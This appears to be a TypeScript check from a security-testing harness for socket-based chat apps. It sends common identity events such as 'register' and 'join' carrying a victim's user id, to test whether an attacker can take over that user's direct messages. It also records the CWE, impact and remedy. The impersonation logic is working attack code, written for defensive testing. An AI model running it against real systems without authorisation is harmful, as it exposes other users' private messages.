import { setTimeout as sleep } from 'node:timers/promises'
import { idOf } from '../../kit/act.ts'
import { wiretapAttack } from '../../kit/direct-message.ts'

const events = ['register', 'add user', 'addUser', 'add-user', 'get_userid', 'identify', 'setup', 'online', 'join']

export default wiretapAttack({
  id: 'authz/identity-register-event',
  rows: ['authz.identity.register-event'],
  title: 'Events that tutorials use to say who one is, sent with another user’s id',
  requirement: 'API1:2023: who a connection belongs to was settled when it was opened, and no event can change it',
  impact: 'Any user takes the place of any other: he gets that user’s direct messages.',
  remedy: 'Delete the event. In the connection handler: socket.join(userRoom(socket.data.user.id)).',
  severity: 'critical',
  cwe: ['CWE-639'],
  references: ['API1:2023'],
  provenBy: 'register-any-id',
  listensMs: 5_000,
  async tap(context, attacker) {
    const id = idOf(context.victim)
    const shapes = [id, { userId: id, id, _id: id, user: id, username: context.victim.account.username }]
    const { messages } = context.target.profile.limits
    const gapMs = messages === undefined ? 0 : (1.5 * messages.perMs) / messages.count
    for (const event of events) {
      for (const shape of shapes) {
        attacker.emit(event, [shape])
        await context.idle(sleep(gapMs, undefined, { signal: context.signal }))
      }
    }
    return `said to be the victim in ${events.join(', ')}, as text and as an object`
  },
})
